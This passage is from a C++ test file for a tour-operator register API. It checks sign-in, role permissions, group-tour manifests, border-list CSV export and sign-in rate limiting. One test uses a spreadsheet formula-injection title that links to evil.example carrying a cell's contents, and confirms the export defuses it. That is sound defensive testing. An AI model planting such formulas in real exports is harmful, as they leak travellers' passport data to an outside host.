// The register's endpoints over HTTP (docs/register.md): every role against every endpoint, allowed and
// refused, each reply checked against api/openapi.yaml by the client; on SQLite (the service's own tests
// run both stores).
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "caravan/server/register_api.h"
#include "caravan/storage/sqlite_store.h"
#include "harness.h"

namespace caravan::server::testing {
namespace {

using json = nlohmann::json;

class Register : public ::testing::Test {
 protected:
  void SetUp() override {
    store_ = storage::open_sqlite_store(":memory:");
    service_ = std::make_shared<registry::register_service>(
        *store_, registry::service_options{.hash_cost_ = registry::hash_cost::kTest,
                                           .keys_ = registry::key_ring{}.with_new_key()});
    service_->create_first_admin("admin@caravan.example", "Admin", "admin password 1");
    server_ = std::make_unique<test_server>(test_config(), true, [&](service& s) {
      api_ = std::make_unique<register_api>(s);
      api_->set_register(service_);
      api_->set_data_source([] { return silkroad(); });
    });
    auto const reg = service_;
    server_->api_.set_group_registrar([reg](rules::itinerary& trip) { return registry::register_groups(*reg, trip); });
    admin_ = sign_in("admin@caravan.example", "admin password 1");
  }

  std::pair<unsigned, json> call(std::string const& method, std::string const& target, std::string const& token = {},
                                 json const& body = nullptr) {
    client c{server_->port()};
    std::vector<std::pair<std::string, std::string>> headers;
    if (!token.empty()) {
      headers.emplace_back("Authorization", "Bearer " + token);
    }
    std::string text;
    if (!body.is_null()) {
      headers.emplace_back("Content-Type", "application/json");
      text = body.dump();
    }
    auto const r = c.request(method, target, headers, text);
    return {r.status, r.body.empty() ? json{} : json::parse(r.body)};
  }
  std::string sign_in(std::string const& email, std::string const& password) {
    auto const [status, j] = call("POST", "/api/v1/auth/signin", {}, {{"email", email}, {"password", password}});
    EXPECT_EQ(status, 200u) << j.dump();
    return j.value("token", "");
  }
  std::string account(std::string const& role, std::string const& email, std::string const& country = {}) {
    json body{{"email", email}, {"displayName", "Someone"}, {"password", "long enough password"}, {"role", role}};
    if (!country.empty()) {
      body["country"] = country;
    }
    if (role == "insurer") {  // an insurer works from a country, under its organisation's code
      body["country"] = country.empty() ? "KZ" : country;
      body["organisation"] = "SILKINS";
    }
    auto const [status, j] = call("POST", "/api/v1/accounts", admin_, body);
    EXPECT_EQ(status, 201u) << j.dump();
    return sign_in(email, "long enough password");
  }
  static json application() {
    return {{"legalName", "Silk Road Tours LLP"}, {"names", {{{"lang", "zh"}, {"name", "丝路旅行"}}}},
            {"country", "KZ"}, {"licenceNumber", "KZ-TO-0001"}, {"issuer", "Tourism Committee of Kazakhstan"},
            {"validFrom", "2025-01-01"}, {"validTo", "2027-12-31"}, {"email", "info@silk.example"},
            {"website", "https://silk.example"}, {"countries", {"KZ", "KG"}}};
  }

  std::unique_ptr<registry::store> store_;
  std::shared_ptr<registry::register_service> service_;
  std::unique_ptr<register_api> api_;
  std::unique_ptr<test_server> server_;
  std::string admin_;
};

TEST_F(Register, ATravellerSignsUpSignsInAndOut) {
  auto [status, j] = call("POST", "/api/v1/auth/signup", {},
                          {{"email", "Zhang@Example.cn"}, {"displayName", "张三"}, {"password", "a long password"}});
  ASSERT_EQ(status, 201u) << j.dump();
  EXPECT_EQ(j["email"], "zhang@example.cn");
  EXPECT_EQ(j["role"], "traveller");
  auto const token = sign_in("zhang@example.cn", "a long password");
  std::tie(status, j) = call("GET", "/api/v1/auth/me", token);
  EXPECT_EQ(status, 200u);
  EXPECT_EQ(j["displayName"], "张三");
  std::tie(status, j) = call("POST", "/api/v1/auth/signout", token);
  EXPECT_EQ(status, 204u);
  std::tie(status, j) = call("GET", "/api/v1/auth/me", token);
  EXPECT_EQ(status, 401u);
  EXPECT_EQ(j["code"], "unauthorized");
}

TEST_F(Register, BadRequestsAreNamed) {
  auto [status, j] = call("POST", "/api/v1/auth/signup", {}, {{"email", "x@example.cn"}, {"displayName", "X"}});
  EXPECT_EQ(status, 400u);
  EXPECT_EQ(j["details"]["parameter"], "password");
  std::tie(status, j) = call("POST", "/api/v1/auth/signup", {},
                             {{"email", "x@example.cn"}, {"displayName", "X"}, {"password", "short"}});
  EXPECT_EQ(status, 400u);
  EXPECT_EQ(j["details"]["parameter"], "password");
  EXPECT_EQ(j["message"].get<std::string>().find("short"), std::string::npos) << "the password is never echoed";
  client c{server_->port()};
  auto const r = c.request("POST", "/api/v1/auth/signin", {{"Content-Type", "text/plain"}}, "{}");
  EXPECT_EQ(r.status, 415u);
  auto const r2 = c.request("POST", "/api/v1/auth/signin", {{"Content-Type", "application/json"}}, "{not json");
  EXPECT_EQ(r2.status, 400u);
  std::tie(status, j) = call("GET", "/api/v1/auth/me", "not-a-token");
  EXPECT_EQ(status, 401u);
  client c2{server_->port()};
  auto const r3 = c2.request("GET", "/api/v1/auth/me", {{"Authorization", "Basic YTpi"}});
  EXPECT_EQ(r3.status, 401u);
  EXPECT_EQ(r3.header("www-authenticate"), R"(Bearer realm="caravan")");
  auto const r4 = c2.request("POST", "/api/v1/auth/signin", {{"Content-Type", "application/json"}},
                             R"({"email":"admin@caravan.example","password":"my secret pass)");
  EXPECT_EQ(r4.status, 400u);
  EXPECT_EQ(r4.body.find("secret"), std::string::npos) << "the parser's quote of the body is not sent back: " << r4.body;
  EXPECT_NE(json::parse(r4.body)["details"]["body"].get<std::string>().find("line 1"), std::string::npos) << r4.body;
  EXPECT_EQ(r4.header("cache-control"), "no-store");
  EXPECT_EQ(call("GET", "/api/v1/auth/me", {}).second["code"], "unauthorized");
  std::tie(status, j) = call("GET", "/api/v1/operators?status=lost");
  EXPECT_EQ(status, 400u);
  EXPECT_EQ(j["details"]["parameter"], "status");
  std::tie(status, j) = call("GET", "/api/v1/operators?limit=1000");
  EXPECT_EQ(status, 400u);
}

TEST_F(Register, WrongPasswordsAreLimited) {
  for (int i = 0; i != 5; ++i) {
    auto const [status, j] = call("POST", "/api/v1/auth/signin", {}, {{"email", "admin@caravan.example"}, {"password", "wrong one!"}});
    EXPECT_EQ(status, 401u);
  }
  client c{server_->port()};
  auto const r = c.request("POST", "/api/v1/auth/signin", {{"Content-Type", "application/json"}},
                           R"({"email":"admin@caravan.example","password":"admin password 1"})");
  EXPECT_EQ(r.status, 429u);
  EXPECT_EQ(r.header("retry-after"), "900");
}

// The operator's life through the API, by each role: who may apply, decide, read the record.
TEST_F(Register, EveryRoleAgainstTheOperatorEndpoints) {
  auto const kz = account("authority", "kz@gov.example", "KZ");
  auto const kg = account("authority", "kg@gov.example", "KG");
  auto const staff = account("operator_staff", "staff@silk.example");
  auto const insurer = account("insurer", "claims@insure.example");
  auto const [st0, traveller_j] = call("POST", "/api/v1/auth/signup", {},
                                       {{"email", "t@example.cn"}, {"displayName", "T"}, {"password", "a long password"}});
  ASSERT_EQ(st0, 201u);
  auto const traveller = sign_in("t@example.cn", "a long password");

  // Applying: not the public, a traveller, an insurer or an authority; operator staff (then tied) and admins.
  EXPECT_EQ(call("POST", "/api/v1/operators", {}, application()).first, 401u);
  for (auto const* who : {&traveller, &insurer, &kz}) {
    EXPECT_EQ(call("POST", "/api/v1/operators", *who, application()).first, 403u);
  }
  auto [status, op] = call("POST", "/api/v1/operators", staff, application());
  ASSERT_EQ(status, 201u) << op.dump();
  EXPECT_EQ(op["status"], "applied");
  auto const id = std::to_string(op["id"].get<int>());
  EXPECT_EQ(call("GET", "/api/v1/auth/me", staff).second["operatorId"], op["id"]);
  auto dup = application();
  EXPECT_EQ(call("POST", "/api/v1/operators", admin_, dup).first, 409u) << "the same licence in the same country";

  // The record: its staff, its country's authority, admins; not Kyrgyzstan's, a traveller or the public.
  EXPECT_EQ(call("GET", "/api/v1/operators/" + id, staff).first, 200u);
  EXPECT_EQ(call("GET", "/api/v1/operators/" + id, kz).first, 200u);
  EXPECT_EQ(call("GET", "/api/v1/operators/" + id, admin_).first, 200u);
  EXPECT_EQ(call("GET", "/api/v1/operators/" + id, kg).first, 403u);
  EXPECT_EQ(call("GET", "/api/v1/operators/" + id, traveller).first, 403u);
  EXPECT_EQ(call("GET", "/api/v1/operators/" + id).first, 401u);
  EXPECT_EQ(call("GET", "/api/v1/operators/999", admin_).first, 404u);
  EXPECT_EQ(call("GET", "/api/v1/operators/abc", admin_).first, 404u);

  // Deciding: Kazakhstan's authority or an admin; a stale version is a conflict.
  json const approve{{"status", "approved"}, {"version", 1}, {"reason", "documents checked"}};
  EXPECT_EQ(call("POST", "/api/v1/operators/" + id + "/decision", kg, approve).first, 403u);
  EXPECT_EQ(call("POST", "/api/v1/operators/" + id + "/decision", staff, approve).first, 403u);
  EXPECT_EQ(call("POST", "/api/v1/operators/" + id + "/decision", {}, approve).first, 401u);
  std::tie(status, op) = call("POST", "/api/v1/operators/" + id + "/decision", kz, approve);
  ASSERT_EQ(status, 200u) << op.dump();
  EXPECT_EQ(op["status"], "approved");
  EXPECT_EQ(op["version"], 2);
  EXPECT_EQ(call("POST", "/api/v1/operators/" + id + "/decision", admin_, approve).first, 409u);
  std::tie(status, op) = call("POST", "/api/v1/operators/" + id + "/decision", admin_,
                              {{"status", "expired"}, {"version", 2}});
  EXPECT_EQ(status, 400u);
  EXPECT_EQ(op["details"]["parameter"], "status");

  // The public lookup: public fields only, by name in any script or the licence number.
  std::tie(status, op) = call("GET", "/api/v1/operators?q=%E4%B8%9D%E8%B7%AF&date=2026-06-01");
  ASSERT_EQ(status, 200u);
  ASSERT_EQ(op["operators"].size(), 1u);
  EXPECT_EQ(op["operators"][0]["status"], "approved");
  EXPECT_FALSE(op["operators"][0].contains("email"));
  std::tie(status, op) = call("GET", "/api/v1/operators?q=KZ-TO-0001&date=2028-01-01");
  EXPECT_EQ(op["operators"][0]["status"], "expired");

  // The audit trail: admins only (it holds every operator's contacts).
  EXPECT_EQ(call("GET", "/api/v1/audit", staff).first, 403u);
  EXPECT_EQ(call("GET", "/api/v1/audit", traveller).first, 403u);
  EXPECT_EQ(call("GET", "/api/v1/audit", kg).first, 403u);
  auto const [audit_status, trail] = call("GET", "/api/v1/audit?from=1&limit=100", admin_);
  ASSERT_EQ(audit_status, 200u);
  EXPECT_EQ(trail["entries"].back()["action"], "operator.approve");
  EXPECT_EQ(service_->verify_audit(), std::nullopt);
}

TEST(RegisterOff, WithoutARegisterTheEndpointsSaySo) {
  std::unique_ptr<register_api> api;
  test_server server{test_config(), false, [&](service& s) { api = std::make_unique<register_api>(s); }};
  client c{server.port()};
  auto const r = c.get("/api/v1/operators");
  EXPECT_EQ(r.status, 503u);
  EXPECT_EQ(json::parse(r.body)["code"], "register_off");
}

}  // namespace

// Every documented status of the register's operations, once (the Spec test of api_test.cc calls it).
// A group tour end to end over HTTP: the operator builds it and its manifest (fields, MRZ, CSV with
// row errors), checks and submits it; Kyrgyzstan's authority approves it; a trip naming the tour is then
// registered in the entry check (the trip file's own word is not taken); the border list is a CSV.
TEST_F(Register, AGroupTourFromDraftToTheBorderList) {
  auto const staff = account("operator_staff", "staff@silk.example");
  auto const kg = account("authority", "kg@gov.example", "KG");
  auto const kz = account("authority", "kz@gov.example", "KZ");
  auto [status, j] = call("POST", "/api/v1/operators", staff, application());
  ASSERT_EQ(status, 201u) << j.dump();
  std::tie(status, j) = call("POST", "/api/v1/operators/1/decision", kz, {{"status", "approved"}, {"version", 1}});
  ASSERT_EQ(status, 200u) << j.dump();

  json const programme{{"title", "Issyk-Kul"},
                       {"languages", {"zh"}},
                       {"stays", {{{"country", "KG"}, {"entry", "2026-07-01"}, {"exit", "2026-07-10"}, {"onwardTicket", true}}}},
                       {"legs", {{{"from", "Urumqi"}, {"to", "Bishkek"}, {"departure", "2026-07-01T08:00+08:00"},
                                  {"arrival", "2026-07-01T10:00+06:00"}, {"mode", "air"}}}}};
  std::tie(status, j) = call("POST", "/api/v1/tours", staff, programme);
  ASSERT_EQ(status, 201u) << j.dump();
  EXPECT_EQ(j["status"], "draft");
  EXPECT_EQ(j["decidingCountries"], json({"KG"}));
  auto const id = std::to_string(j["id"].get<int>());

  // The CSV: one bad row names its line and field, and nothing is added.
  client c{server_->port()};
  std::vector<std::pair<std::string, std::string>> const csv_headers{{"Authorization", "Bearer " + staff},
                                                                     {"Content-Type", "text/csv"}};
  std::string const header = "latin_name,native_name,nationality,passport_number,passport_expiry,birth_date,sex\n";
  auto r = c.request("PUT", "/api/v1/manifests/" + id, csv_headers,
                     header + "ZHANG SAN,张三,CN,E20000001,2031-01-01,1980-05-01,F\nLI SI,李四,CN,E20000002,2031-01-01,1981-02-30,M\n");
  ASSERT_EQ(r.status, 400u) << r.body;
  auto const rows = json::parse(r.body)["rows"];
  ASSERT_EQ(rows.size(), 1u) << r.body;
  EXPECT_EQ(rows[0]["line"], 3);
  EXPECT_EQ(rows[0]["field"], "birth_date");
  std::string good = header;
  for (int i = 0; i != 9; ++i) {
    good += fmt::format("TRAVELLER {},,CN,E3000000{},2031-01-01,198{}-01-01,M\n", static_cast<char>('A' + i), i, i);
  }
  r = c.request("PUT", "/api/v1/manifests/" + id, csv_headers, good);
  ASSERT_EQ(r.status, 200u) << r.body;
  EXPECT_EQ(json::parse(r.body)["added"], 9);
  // The tenth from a passport's MRZ.
  std::tie(status, j) = call("POST", "/api/v1/manifests/" + id, staff,
                             {{"mrz", "P<CHNZHANG<<SAN<FENG<<<<<<<<<<<<<<<<<<<<<<<<\nE123456782CHN8005012F3101012<<<<<<<<<<<<<<04"},
                              {"nativeName", "张三丰"}});
  ASSERT_EQ(status, 201u) << j.dump();
  EXPECT_EQ(j["latinName"], "ZHANG SAN FENG");
  EXPECT_EQ(j["passportNumber"], "E12345678");
  std::tie(status, j) = call("POST", "/api/v1/manifests/" + id, staff,
                             {{"mrz", "P<CHNZHANG<<SAN<FENG<<<<<<<<<<<<<<<<<<<<<<<<\nE123456781CHN8005012F3101012<<<<<<<<<<<<<<04"}});
  EXPECT_EQ(status, 400u) << "a wrong check digit";
  EXPECT_EQ(j["details"]["parameter"], "mrz");

  // Another operator's staff sees nothing of it, even from bad input; the authority nothing of a draft.
  auto const other = account("operator_staff", "other@tours.example");
  EXPECT_EQ(call("GET", "/api/v1/manifests/" + id, other).first, 403u);
  EXPECT_EQ(call("POST", "/api/v1/manifests/" + id, other, json::object()).first, 403u);
  EXPECT_EQ(call("PUT", "/api/v1/tours/" + id, other, {{"title", 5}}).first, 403u);
  EXPECT_EQ(call("GET", "/api/v1/tours/" + id, kg).first, 403u);

  std::tie(status, j) = call("POST", "/api/v1/tours/" + id + "/check", staff);
  ASSERT_EQ(status, 200u) << j.dump();
  EXPECT_TRUE(j["ok"].get<bool>()) << j["problems"].dump();
  std::tie(status, j) = call("GET", "/api/v1/tours/" + id, staff);
  auto const version = j["version"].get<int>();
  std::tie(status, j) = call("POST", "/api/v1/tours/" + id + "/submit", staff, {{"version", version}});
  ASSERT_EQ(status, 200u) << j.dump();
  ASSERT_TRUE(j["submitted"].get<bool>()) << j.dump();

  // Before approval a trip naming the tour is not registered, whatever the file says.
  auto const trip = [&](bool registered) {
    return json{{"travellers", {{{"nationality", "CN"}}}},
                {"stays", {{{"country", "KG"}, {"entry", "2026-07-01"}, {"exit", "2026-07-10"}, {"onward_ticket", true},
                            {"group_tour", {{"tour", std::stoi(id)}, {"registered", registered}, {"size", 10}}}}}}};
  };
  std::tie(status, j) = call("POST", "/api/v1/entry/check", {}, trip(true));
  ASSERT_EQ(status, 200u) << j.dump();
  EXPECT_FALSE(j["register"][0]["registered"].get<bool>()) << j["register"].dump();
  EXPECT_NE(j["travellers"][0]["stays"][0]["verdict"], "allowed");

  std::tie(status, j) = call("POST", "/api/v1/tours/" + id + "/decision", kg,
                             {{"country", "KG"}, {"decision", "approve"}, {"version", version + 1}});
  ASSERT_EQ(status, 200u) << j.dump();
  EXPECT_EQ(j["status"], "approved");
  std::tie(status, j) = call("POST", "/api/v1/entry/check", {}, trip(false));
  ASSERT_EQ(status, 200u) << j.dump();
  EXPECT_TRUE(j["register"][0]["registered"].get<bool>()) << j["register"].dump();
  EXPECT_EQ(j["travellers"][0]["stays"][0]["rule"], "cn-kg-group-tour-2024") << j["travellers"][0]["stays"][0].dump();

  // The border list: every traveller, the tour, the licence and Kyrgyzstan's approval, for KG's authority.
  r = c.request("GET", "/api/v1/manifests/" + id + "?format=border", {{"Authorization", "Bearer " + kg}});
  ASSERT_EQ(r.status, 200u) << r.body;
  EXPECT_EQ(r.header("content-type"), "text/csv; charset=utf-8");
  EXPECT_NE(r.header("content-disposition").find("tour-" + id + "-border.csv"), std::string::npos);
  EXPECT_EQ(std::count(r.body.begin(), r.body.end(), '\n'), 11) << r.body;
  EXPECT_NE(r.body.find("E12345678"), std::string::npos);
  EXPECT_NE(r.body.find("KG approved"), std::string::npos) << r.body;
  EXPECT_NE(r.body.find("KZ-TO-0001"), std::string::npos);
  r = c.request("GET", "/api/v1/manifests/" + id + "?format=csv", {{"Authorization", "Bearer " + staff}});
  EXPECT_TRUE(r.body.starts_with(header.substr(0, header.size() - 1))) << "the export reads back in";

  // A title a spreadsheet would run as a formula goes out as text.
  std::tie(status, j) = call("POST", "/api/v1/tours", staff,
                             {{"title", "=HYPERLINK(\"http://evil.example/?\"&E2,\"x\")"}, {"stays", programme["stays"]}});
  ASSERT_EQ(status, 201u) << j.dump();
  auto const formula = std::to_string(j["id"].get<int>());
  call("POST", "/api/v1/manifests/" + formula, staff,
       {{"latinName", "LI SI"}, {"nationality", "CN"}, {"passportNumber", "E55"}, {"passportExpiry", "2031-01-01"},
        {"birthDate", "1981-01-01"}, {"sex", "M"}});
  r = c.request("GET", "/api/v1/manifests/" + formula + "?format=border", {{"Authorization", "Bearer " + staff}});
  ASSERT_EQ(r.status, 200u) << r.body;
  EXPECT_NE(r.body.find(",\"'=HYPERLINK("), std::string::npos) << r.body;
  EXPECT_EQ(r.body.find(",\"=HYPERLINK("), std::string::npos) << r.body;

  // The register vouches for the tour's own stay only: not other dates.
  auto later = trip(false);
  later["stays"][0]["entry"] = "2029-01-01";
  later["stays"][0]["exit"] = "2029-01-10";
  std::tie(status, j) = call("POST", "/api/v1/entry/check", {}, later);
  ASSERT_EQ(status, 200u) << j.dump();
  EXPECT_FALSE(j["register"][0]["registered"].get<bool>());

  // No passport number or birth date in the server's log or in any error.
  for (auto const& line : server_->log_lines()) {
    EXPECT_EQ(line.find("E1234"), std::string::npos) << line;
    EXPECT_EQ(line.find("1980-05-01"), std::string::npos) << line;
  }
}

// Behind a trusted proxy (--trusted-proxy), the sign-in limit counts each client the proxy names, not
// the proxy; a header from an untrusted peer changes nothing.
TEST(RegisterBehindAProxy, FailedSignInsAreCountedPerForwardedClient) {
  for (bool const trusted : {true, false}) {
    auto store = storage::open_sqlite_store(":memory:");
    auto reg = std::make_shared<registry::register_service>(
        *store, registry::service_options{.hash_cost_ = registry::hash_cost::kTest, .failures_per_client_ = 3});
    std::unique_ptr<register_api> api;
    auto cfg = test_config();
    if (trusted) {
      cfg.trusted_proxies_ = {"127.0.0.1"};
    }
    test_server server{cfg, false, [&](service& s) {
                         api = std::make_unique<register_api>(s);
                         api->set_register(reg);
                       }};
    client c{server.port()};
    auto const fail_from = [&](std::string const& address, int n) {
      auto const r = c.request("POST", "/api/v1/auth/signin",
                               {{"Content-Type", "application/json"}, {"X-Forwarded-For", address}},
                               fmt::format(R"({{"email":"nobody{}@x.example","password":"wrong password"}})", n));
      return r.status;
    };
    for (int i = 0; i != 3; ++i) {
      EXPECT_EQ(fail_from("203.0.113.7", i), 401u);
    }
    EXPECT_EQ(fail_from("203.0.113.7", 3), 429u) << "the fourth failure from one client";
    EXPECT_EQ(fail_from("198.51.100.9", 4), trusted ? 401u : 429u)
        << (trusted ? "another client behind the proxy is not locked out" : "untrusted: all one peer");
  }
}

void exercise_register_endpoints() {
  {
    std::unique_ptr<register_api> off;
    test_server server{test_config(), false, [&](service& s) { off = std::make_unique<register_api>(s); }};
    client c{server.port()};
    std::vector<std::pair<std::string, std::string>> const as_json{{"Content-Type", "application/json"}};
    for (auto const* path : {"/api/v1/auth/signup", "/api/v1/auth/signin", "/api/v1/auth/signout", "/api/v1/accounts",
                             "/api/v1/operators", "/api/v1/operators/1/decision", "/api/v1/tours", "/api/v1/tours/1/check",
                             "/api/v1/tours/1/submit", "/api/v1/tours/1/withdraw", "/api/v1/tours/1/decision",
                             "/api/v1/manifests/1", "/api/v1/tours/1/ratings"}) {
      c.request("POST", path, as_json, "{}");
    }
    for (auto const* path : {"/api/v1/auth/me", "/api/v1/operators", "/api/v1/operators/1", "/api/v1/audit",
                             "/api/v1/tours", "/api/v1/tours/1", "/api/v1/manifests/1"}) {
      c.get(path);
    }
    c.request("PUT", "/api/v1/tours/1", as_json, "{}");
    c.request("PUT", "/api/v1/manifests/1", {{"Content-Type", "text/csv"}}, "a\n");
    c.request("DELETE", "/api/v1/manifests/1/members/x", {}, "");
  }
  auto store = storage::open_sqlite_store(":memory:");
  auto reg = std::make_shared<registry::register_service>(
      *store, registry::service_options{.hash_cost_ = registry::hash_cost::kTest, .failures_per_email_ = 1,
                                        .signups_per_client_ = 2,
                                        // 2026-07-05, during tour 1 (July 1-10): its travellers may rate it.
                                        .now_ = [] { return registry::instant{20'639} * 86'400'000'000 + 3'600'000'000; },
                                        .keys_ = registry::key_ring{}.with_new_key()});
  reg->create_first_admin("admin@caravan.example", "Admin", "admin password 1");
  std::unique_ptr<register_api> api;
  test_server server{test_config(), false, [&](service& s) {
                       api = std::make_unique<register_api>(s);
                       api->set_register(reg);
                       api->set_data_source([] { return silkroad(); });
                     }};
  client c{server.port()};
  auto const post = [&](std::string const& path, std::string const& token, std::string const& body,
                        std::string const& type = "application/json") {
    std::vector<std::pair<std::string, std::string>> h{{"Content-Type", type}};
    if (!token.empty()) {
      h.emplace_back("Authorization", "Bearer " + token);
    }
    return c.request("POST", path, h, body);
  };
  auto const get = [&](std::string const& path, std::string const& token = {}) {
    std::vector<std::pair<std::string, std::string>> h;
    if (!token.empty()) {
      h.emplace_back("Authorization", "Bearer " + token);
    }
    return c.request("GET", path, h);
  };
  auto const token_of = [](reply const& r) { return json::parse(r.body).value("token", ""); };
  auto const admin = token_of(post("/api/v1/auth/signin", {}, R"({"email":"admin@caravan.example","password":"admin password 1"})"));
  std::string const traveller_body = R"({"email":"t@example.cn","displayName":"T","password":"a long password"})";
  post("/api/v1/auth/signup", {}, traveller_body);                    // 201
  post("/api/v1/auth/signup", {}, traveller_body);                    // 409
  post("/api/v1/auth/signup", {}, R"({"email":"x"})");                // 400
  post("/api/v1/auth/signup", {}, traveller_body, "text/plain");      // 415
  post("/api/v1/auth/signup", {}, R"({"email":"t2@example.cn","displayName":"T","password":"a long password"})");  // 429
  auto const traveller = token_of(post("/api/v1/auth/signin", {}, R"({"email":"t@example.cn","password":"a long password"})"));
  post("/api/v1/auth/signin", {}, R"({"email":"t@example.cn"})");     // 400
  post("/api/v1/auth/signin", {}, "{}", "text/plain");                // 415
  post("/api/v1/auth/signin", {}, R"({"email":"k@example.cn","password":"wrong password"})");  // 401
  post("/api/v1/auth/signin", {}, R"({"email":"k@example.cn","password":"wrong password"})");  // 429
  get("/api/v1/auth/me", traveller);                                  // 200
  get("/api/v1/auth/me");                                             // 401
  std::string const staff_body =
      R"({"email":"s@silk.example","displayName":"S","password":"a long password","role":"operator_staff"})";
  post("/api/v1/accounts", admin, staff_body);                        // 201
  post("/api/v1/accounts", admin, staff_body);                        // 409
  post("/api/v1/accounts", admin, R"({"email":"x"})");                // 400
  post("/api/v1/accounts", admin, staff_body, "text/plain");          // 415
  post("/api/v1/accounts", {}, staff_body);                           // 401
  post("/api/v1/accounts", traveller, staff_body);                    // 403
  auto const staff = token_of(post("/api/v1/auth/signin", {}, R"({"email":"s@silk.example","password":"a long password"})"));
  std::string const application =
      R"({"legalName":"Silk","country":"KZ","licenceNumber":"T-1","issuer":"Committee","validFrom":"2025-01-01","validTo":"2027-12-31"})";
  post("/api/v1/operators", staff, application);                      // 201
  post("/api/v1/operators", admin, application);                      // 409
  post("/api/v1/operators", admin, R"({"legalName":"Silk"})");        // 400
  post("/api/v1/operators", admin, application, "text/plain");        // 415
  post("/api/v1/operators", {}, application);                         // 401
  post("/api/v1/operators", traveller, application);                  // 403
  get("/api/v1/operators?q=silk");                                    // 200
  get("/api/v1/operators?limit=0");                                   // 400
  get("/api/v1/operators/1", admin);                                  // 200
  get("/api/v1/operators/1");                                         // 401
  get("/api/v1/operators/1", traveller);                              // 403
  get("/api/v1/operators/9", admin);                                  // 404
  post("/api/v1/operators/1/decision", admin, R"({"status":"approved","version":1})");  // 200
  post("/api/v1/operators/1/decision", admin, R"({"status":"approved","version":1})");  // 409
  post("/api/v1/operators/1/decision", admin, R"({"status":"lost","version":2})");      // 400
  post("/api/v1/operators/1/decision", admin, "{}", "text/plain");    // 415
  post("/api/v1/operators/1/decision", {}, "{}");                     // 401
  post("/api/v1/operators/1/decision", traveller, R"({"status":"revoked","version":2})");  // 403
  post("/api/v1/operators/9/decision", admin, R"({"status":"revoked","version":1})");      // 404
  // Group tours and manifests (operator 1 is approved above).
  auto const request = [&](std::string const& method, std::string const& path, std::string const& token,
                           std::string const& body, std::string const& type = "application/json") {
    std::vector<std::pair<std::string, std::string>> h{{"Content-Type", type}};
    if (!token.empty()) {
      h.emplace_back("Authorization", "Bearer " + token);
    }
    return c.request(method, path, h, body);
  };
  std::string const programme =
      R"({"title":"T","stays":[{"country":"KG","entry":"2026-07-01","exit":"2026-07-10","onwardTicket":true}]})";
  post("/api/v1/tours", staff, programme);                            // 201 (tour 1)
  post("/api/v1/tours", staff, R"({"title":"T","stays":[]})");        // 400
  post("/api/v1/tours", staff, programme, "text/plain");              // 415
  post("/api/v1/tours", {}, programme);                               // 401
  post("/api/v1/tours", traveller, programme);                        // 403
  get("/api/v1/tours", staff);                                        // 200
  get("/api/v1/tours?status=lost", staff);                            // 400
  get("/api/v1/tours");                                               // 401
  get("/api/v1/tours", traveller);                                    // 403
  get("/api/v1/tours/1", staff);                                      // 200
  get("/api/v1/tours/1");                                             // 401
  get("/api/v1/tours/1", traveller);                                  // 403
  get("/api/v1/tours/9", staff);                                      // 404
  request("PUT", "/api/v1/tours/1", staff, R"({"title":"T2","version":1,"stays":[{"country":"KG","entry":"2026-07-01","exit":"2026-07-10","onwardTicket":true}]})");  // 200
  request("PUT", "/api/v1/tours/1", staff, R"({"title":"T2","version":1,"stays":[{"country":"KG","entry":"2026-07-01","exit":"2026-07-10"}]})");  // 409
  request("PUT", "/api/v1/tours/1", staff, R"({"title":"T2"})");      // 400
  request("PUT", "/api/v1/tours/1", traveller, programme.substr(0, programme.size() - 1) + R"(,"version":2})");  // 403
  std::string const member =
      R"({"latinName":"ZHANG SAN","nationality":"CN","passportNumber":"E1","passportExpiry":"2031-01-01","birthDate":"1980-01-01","sex":"F"})";
  post("/api/v1/manifests/1", staff, member);                         // 201
  post("/api/v1/manifests/1", staff, member);                         // 409 (the same passport)
  post("/api/v1/manifests/1", staff, R"({"latinName":"X"})");         // 400
  post("/api/v1/manifests/1", traveller, member);                     // 403
  std::string const header = "latin_name,nationality,passport_number,passport_expiry,birth_date,sex\n";
  for (int i = 0; i != 5; ++i) {
    request("PUT", "/api/v1/manifests/1", staff, header + fmt::format("P {},CN,E{}0,2031-01-01,1980-01-01,M\n", static_cast<char>('A' + i), i),
            "text/csv");                                              // 200
  }
  request("PUT", "/api/v1/manifests/1", staff, header + "P,CN,E9,2031-01-01,1980-13-01,M\n", "text/csv");  // 400
  request("PUT", "/api/v1/manifests/1", staff, header, "application/json");  // 415
  request("PUT", "/api/v1/manifests/1", traveller, header, "text/csv");      // 403
  get("/api/v1/manifests/1", staff);                                  // 200
  get("/api/v1/manifests/1?format=csv", staff);                       // 200 (text/csv)
  get("/api/v1/manifests/1?format=x", staff);                         // 400
  get("/api/v1/manifests/1");                                         // 401
  get("/api/v1/manifests/1", traveller);                              // 403
  get("/api/v1/manifests/9", staff);                                  // 404
  auto const first_ref = json::parse(get("/api/v1/manifests/1", staff).body)["members"][5]["ref"].get<std::string>();
  request("DELETE", "/api/v1/manifests/1/members/" + first_ref, staff, "");  // 204
  request("DELETE", "/api/v1/manifests/1/members/" + first_ref, staff, "");  // 404
  request("DELETE", "/api/v1/manifests/1/members/x", traveller, "");  // 403
  post("/api/v1/tours/1/check", staff, "");                           // 200
  post("/api/v1/tours/1/check", {}, "");                              // 401
  post("/api/v1/tours/1/check", traveller, "");                       // 403
  post("/api/v1/tours/9/check", staff, "");                           // 404
  auto const version = json::parse(get("/api/v1/tours/1", staff).body)["version"].get<int>();
  post("/api/v1/tours/1/submit", staff, fmt::format(R"({{"version":{}}})", version));      // 200
  post("/api/v1/tours/1/submit", staff, fmt::format(R"({{"version":{}}})", version));      // 409
  post("/api/v1/tours/1/submit", staff, "{}");                        // 400
  post("/api/v1/tours/1/submit", traveller, fmt::format(R"({{"version":{}}})", version + 1));  // 403
  post("/api/v1/tours/1/decision", admin, fmt::format(R"({{"country":"KZ","decision":"approve","version":{}}})", version + 1));  // 400
  post("/api/v1/tours/1/decision", traveller, fmt::format(R"({{"country":"KG","decision":"approve","version":{}}})", version + 1));  // 403
  post("/api/v1/tours/1/decision", admin, fmt::format(R"({{"country":"KG","decision":"approve","version":{}}})", version + 1));  // 200
  post("/api/v1/tours/1/decision", admin, fmt::format(R"({{"country":"KG","decision":"approve","version":{}}})", version + 1));  // 409
  // Ratings by travellers (no account), with the code the operator sees on its approved tour.
  auto const code = json::parse(get("/api/v1/tours/1", staff).body).value("feedbackCode", "");
  auto const rate = [&](std::string const& body, std::string const& type = "application/json") {
    return post("/api/v1/tours/1/ratings", {}, body, type);
  };
  rate(fmt::format(R"({{"code":"{}","rating":5,"comment":"Wonderful lake"}})", code));  // 201
  rate(R"({"code":"0000000000000000","rating":5})");                 // 403
